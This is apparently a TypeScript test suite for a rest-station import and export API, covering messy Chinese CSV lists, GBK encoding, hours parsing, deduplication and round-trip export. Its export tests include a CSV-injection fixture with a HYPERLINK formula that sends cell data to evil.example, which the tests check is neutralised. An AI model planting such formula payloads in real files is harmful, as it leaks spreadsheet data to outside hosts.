import { readFileSync } from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { IMPORT_MAX_ROWS, type ApiErrorBody, type ImportReport, type NearbyResponse, type Session, type Station } from '@yz/shared';
import { AppError } from '../../functions/src/platform/errors';
import { stationServices } from '../../functions/src/stations';
import { loginAs, request } from '../helpers/api';
import { makeStation, putStations, startTestStack, type TestStack } from '../helpers/stack';

/**
 * Importing real, messy station lists through the API: UTF-8 or GBK, Chinese or English headers,
 * rows without coordinates, hours written the common Chinese ways (and ways that cannot be read),
 * several phones per cell, rows that describe stations already there. The report says row by row
 * what happened and why; importing twice changes nothing; an export imports back to the same stations.
 */

let stack: TestStack;
let staff: Session;
const EXISTING = makeStation({
  id: 'st-existing-1',
  name: '东湖广场红色蒲公英驿站',
  address: '江西省九江市都昌县县府南路东湖广场老年大学一楼',
  location: { lat: 29.269909, lng: 116.206436 },
  phones: [],
  hours: null,
});

beforeAll(async () => {
  stack = await startTestStack();
  await putStations(stack, [EXISTING, makeStation({ id: 'st-langya-1', district: { code: '341102', name: '琅琊区' }, location: { lat: 32.3, lng: 118.31 } })]);
  staff = await loginAs(stack.url, 'district-staff');
});
afterAll(async () => {
  await stack.stop();
});

async function importCsv(bytes: Buffer | string, query: string, opts: { token?: string; multipart?: boolean } = {}) {
  const body = new Uint8Array(typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : bytes);
  let init: RequestInit;
  if (opts.multipart) {
    const form = new FormData();
    form.append('file', new Blob([body], { type: 'text/csv' }), 'stations.csv');
    init = { method: 'POST', body: form };
  } else {
    init = { method: 'POST', body, headers: { 'content-type': 'application/octet-stream' } };
  }
  const res = await fetch(`${stack.url}/stations/import?${query}`, {
    ...init,
    headers: { ...(init.headers as Record<string, string> | undefined), authorization: `Bearer ${opts.token ?? staff.token}` },
  });
  return { status: res.status, body: (await res.json()) as ImportReport & ApiErrorBody };
}

const getStation = async (id: string) => (await request<Station>(stack.url, 'GET', `/stations/${id}`)).body;
const byRow = (report: ImportReport, row: number) => report.rows.find((r) => r.row === row)!;

/** One row for each thing real lists do. Row numbers as a spreadsheet shows them (header = row 1). */
const MESSY = [
  '名称,地址,区县,纬度,经度,开放时间,电话,类型,设施',
  /* 2 */ '芙蓉社区爱心驿站,都昌镇芙蓉路133号,都昌县,29.276595,116.208889,"周一至周五 08:30-12:00,13:00-17:30",0792-5222123,社区,热水、卫生间、手机充电',
  /* 3 */ '三公里建设银行爱心驿站,东风大道375号1楼,都昌县,,,07:30-22:30,0792-5222124,银行网点,',
  /* 4 */ '大树乡政府爱心驿站,209省道,360428,29.275105,116.261786,24小时,,,',
  /* 5 */ '景程新天地爱心驿站,景程新天地广场内,都昌,29.270071,116.201836,全天,"13907920000、0792-5222125 / 0792-5222126",商场,饮用水 无微波炉',
  /* 6 */ '芙蓉路环卫工人休息站,芙蓉路8号,都昌县,29.2771,116.2090,工作日开放,,环卫站点,',
  /* 7 */ ' 东湖广场红色蒲公英驿站 ,县府南路东湖广场老年大学一楼,都昌县,29.269909,116.206436,"周一至周五 ０８：３０－１７：３０",0792-5222127,,',
  /* 8 */ ',无名路1号,都昌县,29.27,116.2,,,,',
  /* 9 */ '琅琊大道驿站,琅琊大道1号,琅琊区,32.30,118.31,,,,',
  /* 10 */ '芙蓉社区爱心驿站,都昌镇芙蓉路133号,都昌县,29.276595,116.208889,,,,',
  /* 11 */ '经纬度填反的驿站,万里大道38号,都昌县,116.197263,29.279578,22:00-06:00,0792-5222128,,',
  /* 12 */ '火星驿站,火星路1号,火星区,29.27,116.2,,,,',
].join('\n');

describe('a messy list', () => {
  let first: ImportReport;

  it('is read row by row, each row saying what happened and why', async () => {
    const res = await importCsv(MESSY, 'regionCode=360428');
    expect(res.status).toBe(200);
    first = res.body;
    expect(first.encoding).toBe('utf-8');
    expect(first.dryRun).toBe(false);
    expect(first.rows.map((r) => [r.row, r.outcome])).toEqual([
      [2, 'imported'],
      [3, 'imported'],
      [4, 'imported'],
      [5, 'imported'],
      [6, 'imported'],
      [7, 'updated'],
      [8, 'rejected'],
      [9, 'rejected'],
      [10, 'rejected'],
      [11, 'imported'],
      [12, 'rejected'],
    ]);
    // Stored rows with something to look at count as stored; their warnings are listed beside them.
    expect(first.totals).toEqual({ imported: 6, updated: 1, unchanged: 0, rejected: 4 });
    expect(first.withWarnings).toBe(3);
    expect(first.rows.filter((r) => r.warnings.length > 0).map((r) => r.row)).toEqual([3, 6, 11]);
    expect(byRow(first, 8).reasons).toEqual(['缺少名称']);
    expect(byRow(first, 9).reasons[0]).toContain('不在本次导入的地区');
    expect(byRow(first, 10).reasons[0]).toBe('与第 2 行是同一个驿站（编号或名称、地址相同），只导入了第 2 行');
    expect(byRow(first, 12).reasons[0]).toContain('区县“火星区”无法识别');
  });

  it('imports a clean row with its weekly hours, phone, type and amenities (the rest unknown, not "no")', async () => {
    const s = await getStation(byRow(first, 2).stationId!);
    expect(s).toMatchObject({ name: '芙蓉社区爱心驿站', status: 'active', type: 'community', phones: ['0792-5222123'], hoursNote: null });
    expect(s.hours!.weekly.mon).toEqual([{ open: '08:30', close: '12:00' }, { open: '13:00', close: '17:30' }]);
    expect(s.hours!.weekly.sat).toEqual([]);
    expect(s.amenities).toMatchObject({ hot_water: 'yes', toilet: 'yes', phone_charging: 'yes', microwave: 'unknown', wifi: 'unknown' });
  });

  it('keeps a row without coordinates off the map as "location needed"', async () => {
    const row = byRow(first, 3);
    expect(row.reasons).toEqual([]);
    expect(row.warnings).toEqual(['没有经纬度：按“待定位”处理，定位前不在地图上显示']);
    const s = await getStation(row.stationId!);
    expect(s).toMatchObject({ status: 'needs_location', location: null, type: 'bank' });
    expect(s.hours!.weekly.sun).toEqual([{ open: '07:30', close: '22:30' }]);
    const near = await request<NearbyResponse>(stack.url, 'GET', '/stations/nearby?lat=29.2753&lng=116.2100&radius=20000&limit=50');
    expect(near.body.items.map((x) => x.id)).not.toContain(s.id);
    expect(near.body.items.map((x) => x.id)).toContain(byRow(first, 2).stationId);
  });

  it('reads 24小时 and 全天 as round the clock, and a district given as a code or a short name', async () => {
    for (const row of [4, 5]) {
      const s = await getStation(byRow(first, row).stationId!);
      expect(s.hours!.weekly.wed).toEqual([{ open: '00:00', close: '24:00' }]);
      expect(s.district).toEqual({ code: '360428', name: '都昌县' });
    }
  });

  it('splits several phones in one cell, and reads "无…" as an amenity that is missing', async () => {
    const s = await getStation(byRow(first, 5).stationId!);
    expect(s.phones).toEqual(['13907920000', '0792-5222125', '0792-5222126']);
    expect(s.amenities).toMatchObject({ drinking_water: 'yes', microwave: 'no', hot_water: 'unknown' });
  });

  it('keeps hours it cannot read as a note, never guessed', async () => {
    const row = byRow(first, 6);
    expect(row.warnings[0]).toContain('开放时间“工作日开放”无法准确识别');
    expect(row.warnings[0]).toContain('原文已保存为备注，未作推测');
    const s = await getStation(row.stationId!);
    expect(s).toMatchObject({ hours: null, hoursNote: '工作日开放', type: 'sanitation_depot' });
  });

  it('updates the station a row describes (same name and address, written differently) instead of duplicating it', async () => {
    const row = byRow(first, 7);
    expect(row.stationId).toBe(EXISTING.id);
    expect(row.reasons).toEqual(['更新了开放时间、电话']);
    const s = await getStation(EXISTING.id);
    expect(s.version).toBe(2);
    expect(s.phones).toEqual(['0792-5222127']);
    expect(s.hours!.weekly.fri).toEqual([{ open: '08:30', close: '17:30' }]);
    // The fuller address already held is kept; it is the same address, so there is no second station.
    expect(s.address).toBe(EXISTING.address);
    const list = await request<{ items: Station[] }>(stack.url, 'GET', '/admin/stations?regionCode=360428&limit=100', { token: staff.token });
    expect(list.body.items.filter((x) => x.name === '东湖广场红色蒲公英驿站')).toHaveLength(1);
    const history = await request<{ items: { action: string; actorId: string }[] }>(stack.url, 'GET', `/stations/${EXISTING.id}/history`, { token: staff.token });
    expect(history.body.items[0]).toMatchObject({ action: 'import', actorId: 'demo-staff-duchang' });
  });

  it('puts swapped coordinates right and reads 22:00-06:00 as overnight, saying so', async () => {
    const row = byRow(first, 11);
    expect(row.warnings).toEqual(['经纬度两列填反了，已按纬度在前更正', '“22:00-06:00”按跨夜理解（次日 06:00 结束）']);
    const s = await getStation(row.stationId!);
    expect(s.location).toEqual({ lat: 29.279578, lng: 116.197263 });
    expect(s.hours!.weekly.mon).toEqual([{ open: '22:00', close: '06:00', overnight: true }]);
  });

  it('changes nothing the second time: every row unchanged (or still refused), no version moves', async () => {
    const ids = first.rows.filter((r) => r.stationId && r.outcome !== 'rejected').map((r) => r.stationId!);
    const before = await Promise.all(ids.map(getStation));
    const again = await importCsv(MESSY, 'regionCode=360428');
    expect(again.status).toBe(200);
    expect(again.body.rows.map((r) => r.outcome)).toEqual(first.rows.map((r) => (r.outcome === 'rejected' ? 'rejected' : 'unchanged')));
    expect(again.body.rows.every((r) => r.change === 'none')).toBe(true);
    // Rows that still need a person say so again.
    expect(byRow(again.body, 3).warnings).toEqual(byRow(first, 3).warnings);
    expect(await Promise.all(ids.map(getStation))).toEqual(before);
  });

  it('never wipes what a host entered with an empty cell', async () => {
    const id = byRow(first, 4).stationId!;
    const s = await getStation(id);
    const host = await loginAs(stack.url, 'district-staff');
    const edited = await request<Station>(stack.url, 'PUT', `/stations/${id}/phones`, { token: host.token, body: { expectedVersion: s.version, phones: ['0792-5999999'] } });
    expect(edited.status).toBe(200);
    const again = await importCsv(MESSY, 'regionCode=360428');
    expect(byRow(again.body, 4).outcome).toBe('unchanged');
    expect((await getStation(id)).phones).toEqual(['0792-5999999']);
  });
});

describe('the report tells the truth', () => {
  /** Every station of a region, as staff see them. */
  const regionStations = async (regionCode: string) => {
    const res = await request<{ items: Station[] }>(stack.url, 'GET', `/admin/stations?regionCode=${regionCode}&limit=100`, { token: staff.token });
    return res.body.items;
  };

  it('counts what was stored: the 3-row list that said 新增 0 / 需处理 3 now says 新增 3, warnings beside the rows', async () => {
    // Two rows with coordinates but hours nobody can read exactly, one without coordinates: all three are stored.
    const csv = [
      '站点名称,详细地址,所属区县,经度,纬度,服务时间,联系电话',
      '徐埠镇环卫驿站,徐埠镇 港头村委会旁,都昌县,116.35112,29.31288,上午8点到下午5点,0792-5391111',
      '汪墩乡爱心驿站,汪墩乡 汪墩村 卫生院对面,都昌县,116.28210,29.19531,节假日除外,',
      '春桥乡户外劳动者驿站,春桥乡春桥村,都昌县,,,"8:00-12:00，14:00-17:30",0792-52x',
    ].join('\r\n');
    const before = new Set((await regionStations('360428')).map((s) => s.id));
    const res = await importCsv(csv, 'regionCode=360428');
    expect(res.status).toBe(200);
    const written = (await regionStations('360428')).filter((s) => !before.has(s.id));
    const created = res.body.rows.filter((r) => r.change === 'created');
    expect(res.body.totals.imported).toBe(written.length);
    expect(created.map((r) => r.stationId).sort()).toEqual(written.map((s) => s.id).sort());
    expect(res.body.totals).toEqual({ imported: 3, updated: 0, unchanged: 0, rejected: 0 });
    expect(written.filter((s) => s.status === 'active')).toHaveLength(2);
    expect(written.filter((s) => s.status === 'needs_location')).toHaveLength(1);
    // Every stored row that needs a person says why, in the row itself.
    expect(res.body.withWarnings).toBe(res.body.rows.filter((r) => r.warnings.length > 0).length);
    expect(byRow(res.body, 4).warnings).toEqual(expect.arrayContaining(['没有经纬度：按“待定位”处理，定位前不在地图上显示', '电话“0792-52x”格式不正确，未导入']));
  });

  it('refuses a row with more or fewer cells than the header, never reading it shifted', async () => {
    // Row 3: an unquoted comma in the address pushes the phone into 类型 and the hours into 电话.
    // Row 4: a cell short. Row 5 is fine and is stored; the blank line of commas is skipped.
    const csv = [
      '名称,地址,区县,纬度,经度,开放时间,电话,类型',
      '左里镇爱心驿站,左里镇左里村1号,都昌县,29.33001,116.10002,08:00-18:00,0792-5300001,社区',
      '周溪镇爱心驿站,周溪镇,周溪村2号,都昌县,29.20001,116.30002,08:00-18:00,0792-5300002,社区',
      '多宝乡爱心驿站,多宝乡多宝村3号,都昌县,29.35001,116.05002,08:00-18:00,0792-5300003',
      '和合乡爱心驿站,和合乡和合村4号,都昌县,29.10001,116.40002,08:00-18:00,0792-5300004,社区',
      ',,,,,,,',
    ].join('\n');
    const before = new Set((await regionStations('360428')).map((s) => s.id));
    const dry = await importCsv(csv, 'regionCode=360428&dryRun=1');
    expect(dry.status).toBe(200);
    expect(dry.body.rows.map((r) => [r.row, r.outcome])).toEqual([
      [2, 'imported'],
      [3, 'rejected'],
      [4, 'rejected'],
      [5, 'imported'],
    ]);
    const res = await importCsv(csv, 'regionCode=360428');
    expect(res.body.totals).toEqual({ imported: 2, updated: 0, unchanged: 0, rejected: 2 });
    expect(byRow(res.body, 3)).toMatchObject({ name: '周溪镇爱心驿站', change: 'none', stationId: null });
    expect(byRow(res.body, 3).reasons[0]).toMatch(/^第 3 行有 9 列，表头有 8 列/);
    expect(byRow(res.body, 4).reasons[0]).toMatch(/^第 4 行有 7 列，表头有 8 列/);
    const written = (await regionStations('360428')).filter((s) => !before.has(s.id));
    expect(written.map((s) => s.name).sort()).toEqual(['和合乡爱心驿站', '左里镇爱心驿站']);
    expect(written.find((s) => s.name === '和合乡爱心驿站')).toMatchObject({ phones: ['0792-5300004'], type: 'community' });
  });
});

describe('files as they come', () => {
  it('reads a GBK file (Excel on Chinese Windows) sent as a multipart form', async () => {
    const csv = '名称,地址,区县,纬度,经度,开放时间\n西湖社区爱心驿站,幸福路318号西侧,都昌县,29.276255,116.193955,周一至周五 08:00-18:00\n';
    const res = await importCsv(iconv.encode(csv, 'gbk'), 'regionCode=360428', { multipart: true });
    expect(res.status).toBe(200);
    expect(res.body.encoding).toBe('gb18030');
    expect(res.body.rows).toEqual([expect.objectContaining({ row: 2, outcome: 'imported', name: '西湖社区爱心驿站' })]);
    const s = await getStation(res.body.rows[0]!.stationId!);
    expect(s.address).toBe('幸福路318号西侧');
  });

  it('reads English headers, reports the columns it ignored, and a dry run writes nothing', async () => {
    const csv = 'name,address,lat,lng,hours,phone,batch\nWest Street Station,小南门路60号,29.265089,116.188776,08:00-20:00,0792-5222000,2\n';
    const dry = await importCsv(csv, 'regionCode=360428&dryRun=1');
    expect(dry.status).toBe(200);
    expect(dry.body.dryRun).toBe(true);
    expect(dry.body.columns).toEqual({
      recognised: { name: '名称', address: '地址', lat: '纬度', lng: '经度', hours: '开放时间', phone: '电话' },
      ignored: ['batch'],
    });
    expect(dry.body.rows).toEqual([expect.objectContaining({ outcome: 'imported', change: 'created', stationId: null })]);
    const list = await request<{ items: Station[] }>(stack.url, 'GET', '/admin/stations?regionCode=360428&limit=100', { token: staff.token });
    expect(list.body.items.map((s) => s.name)).not.toContain('West Street Station');
  });

  it('imports the real Duchang list (an AMap POI export) as it is', async () => {
    const file = readFileSync(path.resolve(__dirname, '../../dev/src/demo/duchang_yizhan_amap.csv'));
    const res = await importCsv(file, 'regionCode=360428');
    expect(res.status).toBe(200);
    expect(res.body.rows).toHaveLength(24);
    expect(res.body.columns.ignored).toEqual(['batch', 'source_note']);
    expect(res.body.totals).toMatchObject({ imported: 24, rejected: 0 });
    const zhineng = res.body.rows.find((r) => r.name === '都昌县智能化工会户外劳动者驿站')!;
    expect(zhineng.stationId).toBe('amap-B0J3R71OZC');
    const s = await getStation('amap-B0J3R71OZC');
    expect(s).toMatchObject({ status: 'active', location: { lat: 29.271245, lng: 116.201522 }, hours: null });
    // The township column completes addresses that lack it.
    expect((await getStation('amap-B0J05RX596')).address).toBe('大树乡209省道');
  });

  it('refuses what is not a station list, with a reason', async () => {
    const noName = await importCsv('地址,电话\n东风大道1号,0792-5222123\n', 'regionCode=360428');
    expect(noName.status).toBe(400);
    expect(noName.body.code).toBe('IMPORT_NO_NAME_COLUMN');
    const tooMany = await importCsv(`名称,地址\n${Array.from({ length: IMPORT_MAX_ROWS + 1 }, (_, i) => `驿站${i},路${i}号`).join('\n')}`, 'regionCode=360428&dryRun=1');
    expect(tooMany.status).toBe(400);
    expect(tooMany.body.code).toBe('IMPORT_TOO_MANY_ROWS');
    const other = await loginAs(stack.url, 'district-staff-other');
    expect((await importCsv(MESSY, 'regionCode=360428', { token: other.token })).status).toBe(403);
  });
});

describe('export', () => {
  /** Cells a spreadsheet would run as a formula (OWASP CSV injection). */
  const FORMULA_CELL = /^[=+\-@\t\r]/;
  const FORMULA_STATIONS = [
    makeStation({ id: 'st-formula-1', name: '=HYPERLINK("http://evil.example/?x="&A1,"驿站详情")', address: '-都昌镇公式路 1 号', notice: '@SUM(1+1) 今日停水', hostOrganisation: '+都昌县总工会' }),
    makeStation({ id: 'st-formula-2', name: '+86 爱心驿站', address: '=都昌镇公式路 2 号', notice: "'=已带引号的公告", hostOrganisation: '@工会' }),
  ];

  it('neutralises every cell a spreadsheet would run as a formula (names, addresses, notices a host can write)', async () => {
    await putStations(stack, FORMULA_STATIONS);
    const res = await fetch(`${stack.url}/stations/export?regionCode=360428&format=csv`, { headers: { authorization: `Bearer ${staff.token}` } });
    expect(res.status).toBe(200);
    const rows = parseCsv((await res.text()).replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const cells = rows.flat();
    expect(cells.filter((c) => FORMULA_CELL.test(c))).toEqual([]);
    expect(cells).toContain(`'${FORMULA_STATIONS[0]!.name}`);
    expect(cells).toContain("'@SUM(1+1) 今日停水");
    expect(cells).toContain("''=已带引号的公告");

    const geo = await request<{ features: { id: string; properties: Record<string, unknown> }[] }>(stack.url, 'GET', '/stations/export?regionCode=360428&format=geojson', { token: staff.token });
    const strings = geo.body.features.flatMap((f) => Object.values(f.properties).flatMap((v) => (typeof v === 'string' ? [v] : Array.isArray(v) ? v.filter((x): x is string => typeof x === 'string') : [])));
    expect(strings.filter((v) => FORMULA_CELL.test(v))).toEqual([]);
    expect(geo.body.features.find((f) => f.id === 'st-formula-1')?.properties.notice).toBe("'@SUM(1+1) 今日停水");
  });

  it('writes the importer\'s columns; the file imports back unchanged, and into empty tables as the same stations', async () => {
    // Formula-looking names and notices too: the importer takes the neutralising apostrophe off again.
    await putStations(stack, FORMULA_STATIONS);
    const res = await fetch(`${stack.url}/stations/export?regionCode=360428&format=csv`, { headers: { authorization: `Bearer ${staff.token}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/csv');
    expect(res.headers.get('content-disposition')).toContain("filename*=UTF-8''");
    const csv = Buffer.from(await res.arrayBuffer());
    const text = csv.toString('utf8');
    expect(text.startsWith('\uFEFF编号,名称,地址,区县,纬度,经度,开放时间,电话,类型,设施,主办单位,公告\r\n')).toBe(true);

    const list = async (url: string, token: string) => {
      const all: Station[] = [];
      let cursor: string | null = null;
      do {
        const page: { body: { items: Station[]; nextCursor: string | null } } = await request(url, 'GET', `/admin/stations?regionCode=360428&limit=100${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`, { token });
        all.push(...page.body.items);
        cursor = page.body.nextCursor;
      } while (cursor);
      return all.filter((s) => s.status !== 'inactive').sort((a, b) => a.id.localeCompare(b.id));
    };
    const here = await list(stack.url, staff.token);
    expect(text.split('\r\n').filter((l) => l !== '').length - 1).toBe(here.length);

    // Into the same tables: nothing to do.
    const same = await importCsv(csv, 'regionCode=360428');
    expect(same.body.rows.map((r) => r.outcome).filter((o) => o !== 'unchanged')).toEqual([]);

    // Into empty tables: the same stations, field for field (what a list can carry).
    const fresh = await startTestStack();
    try {
      const freshStaff = await loginAs(fresh.url, 'district-staff');
      const res2 = await fetch(`${fresh.url}/stations/import?regionCode=360428`, {
        method: 'POST',
        body: new Uint8Array(csv),
        headers: { authorization: `Bearer ${freshStaff.token}`, 'content-type': 'application/octet-stream' },
      });
      const report = (await res2.json()) as ImportReport;
      expect(report.totals.rejected).toBe(0);
      const there = await list(fresh.url, freshStaff.token);
      const carried = (s: Station) => ({
        id: s.id,
        name: s.name,
        address: s.address,
        district: s.district,
        location: s.location,
        type: s.type,
        amenities: s.amenities,
        hours: s.hours,
        hoursNote: s.hoursNote,
        phones: s.phones,
        hostOrganisation: s.hostOrganisation,
        notice: s.notice,
        status: s.status,
      });
      expect(there.map(carried)).toEqual(here.map(carried));
      expect(there.find((s) => s.id === 'st-formula-1')).toMatchObject({ name: FORMULA_STATIONS[0]!.name, notice: '@SUM(1+1) 今日停水', address: '-都昌镇公式路 1 号' });
      expect(there.find((s) => s.id === 'st-formula-2')?.notice).toBe("'=已带引号的公告");
    } finally {
      await fresh.stop();
    }
  });

  it('writes GeoJSON for map platforms, saying the coordinates are GCJ-02', async () => {
    const res = await request<{ type: string; coordinateSystem: string; features: { id: string; geometry: { coordinates: number[] }; properties: Record<string, unknown> }[] }>(
      stack.url,
      'GET',
      '/stations/export?regionCode=360428&format=geojson',
      { token: staff.token },
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('application/geo+json');
    expect(res.body.type).toBe('FeatureCollection');
    expect(res.body.coordinateSystem).toBe('GCJ-02');
    const zhineng = res.body.features.find((f) => f.id === 'amap-B0J3R71OZC')!;
    expect(zhineng.geometry.coordinates).toEqual([116.201522, 29.271245]);
    expect(zhineng.properties.coordinateSystem).toBe('GCJ-02');
    // Stations waiting for a location are not on a map.
    expect(res.body.features.map((f) => f.properties.name)).not.toContain('三公里建设银行爱心驿站');
  });
});

describe('batches of new stations', () => {
  it('are written together; when one of them is taken, the others are still written one by one', async () => {
    const { keeping, store } = stationServices(stack.platform);
    const make = (id: string, name: string) => makeStation({ id, name, address: `批量路 ${name}`, location: { lat: 29.28, lng: 116.21 } });
    const batch = [make('st-batch-a', '批量甲'), make(EXISTING.id, '批量乙（编号已被占用）'), make('st-batch-c', '批量丙')];
    const results = await keeping.insertMany({ userId: 'import-test', role: 'import' }, batch, 'import', new Date());
    expect(results.map((r) => (r instanceof AppError ? r.code : r.id))).toEqual(['st-batch-a', 'STATION_ID_TAKEN', 'st-batch-c']);
    expect((await store.get('st-batch-a'))?.name).toBe('批量甲');
    expect((await store.get(EXISTING.id))?.name).toBe(EXISTING.name);
    const history = await store.history('st-batch-c', 10);
    expect(history.items).toEqual([expect.objectContaining({ action: 'import', actorId: 'import-test', version: 1 })]);
  });
});
